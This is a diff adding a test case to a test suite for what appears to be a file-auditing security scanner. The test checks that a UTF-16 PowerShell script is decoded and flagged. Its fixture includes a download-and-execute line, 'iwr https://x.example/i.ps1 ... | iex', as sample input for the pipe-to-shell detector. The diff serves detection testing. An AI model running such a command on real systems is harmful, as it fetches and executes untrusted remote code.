@@ -1048,6 +1048,24 @@ describe("a file served as binary that shells and editors read as text", () => {
     expect(found?.detail).toMatch(/^served as binary \(control characters in its first 8 KiB\), but shells/);
   });
 
+  it("reads a UTF-16 script, which PowerShell runs, as UTF-16, and not one in UTF-32", () => {
+    const text = "Set-Location $HOME\r\niwr https://x.example/i.ps1 -UseBasicParsing | iex\r\n";
+    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
+    expect(onDisk(audit("p/s/install.ps1", le).slice(1))).toEqual([
+      '2 pipe-to-shell medium served as binary (UTF-16), but PowerShell and editors read it as text: a download piped into iex: "iwr https://x.example/i.ps1 -UseBasicParsing | iex"',
+    ]);
+    const be = Buffer.from(le).swap16();
+    expect(audit("p/s/install.ps1", be).map((f) => `${f.line} ${f.rule}`)).toEqual([
+      "0 binary-file",
+      "2 pipe-to-shell",
+    ]);
+    const utf32 = Buffer.concat([
+      Buffer.from([0xff, 0xfe, 0, 0]),
+      ...[...text].map((c) => Buffer.from([c.charCodeAt(0), 0, 0, 0])),
+    ]);
+    expect(audit("p/s/install.ps1", utf32).map((f) => f.rule)).toEqual(["binary-file"]);
+  });
+
   it("leaves images, archives and fonts alone: they hold a NUL early", () => {
     const zip = Buffer.concat([
       latin1("PK\x03\x04\x14\0\0\0"),
